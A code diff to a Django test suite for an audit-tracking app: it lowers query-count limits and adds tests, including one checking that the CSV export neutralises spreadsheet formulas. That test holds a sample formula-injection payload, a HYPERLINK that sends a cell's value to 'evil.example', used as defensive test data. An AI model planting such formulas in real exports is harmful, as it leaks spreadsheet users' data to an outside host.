@@ -88,7 +88,7 @@ def test_the_list_costs_the_same_few_queries_for_many_audits(
         RecommendationFactory(review=None, audit=audit, ref="1")
     client = client_for(manager)
     client.get(board_url("learning:audit-list"))
-    with django_assert_max_num_queries(16):
+    with django_assert_max_num_queries(12):
         assert client.get(board_url("learning:audit-list")).status_code == 200
 
 
@@ -125,7 +125,7 @@ def test_the_detail_page_costs_the_same_few_queries_for_many_stages_and_agencies
         RecommendationFactory(review=None, audit=audit, ref=str(n + 1), lead_agency=agencies[n])
     client = client_for(manager)
     client.get(board_url("learning:audit-detail", audit.pk))
-    with django_assert_max_num_queries(14):
+    with django_assert_max_num_queries(12):
         assert client.get(board_url("learning:audit-detail", audit.pk)).status_code == 200
 
 
@@ -410,3 +410,19 @@ def test_a_recommendations_taken_ref_is_refused_with_the_text_kept(client_for, m
     page = response.content.decode()
     assert "This audit already has a recommendation with this reference." in page
     assert "Mon texte à garder" in page
+
+
+def test_the_export_quotes_text_a_spreadsheet_would_run(client_for, manager, chaired_group):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    AuditFactory(name=formula, agency=AgencyFactory(name="+1+1"), group=chaired_group)
+    response = client_for(manager).get(board_url("learning:audit-list") + "?_export=csv")
+    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "'+1+1" in text
+
+
+def test_the_audits_history_opens_from_its_page(client_for, board_member, audit):
+    client = client_for(board_member)
+    page = client.get(board_url("learning:audit-detail", audit.pk)).content.decode()
+    history = f"/history/learning/audit/{audit.pk}/?board={audit.board.slug}"
+    assert history in page
+    assert client.get(history).status_code == 200
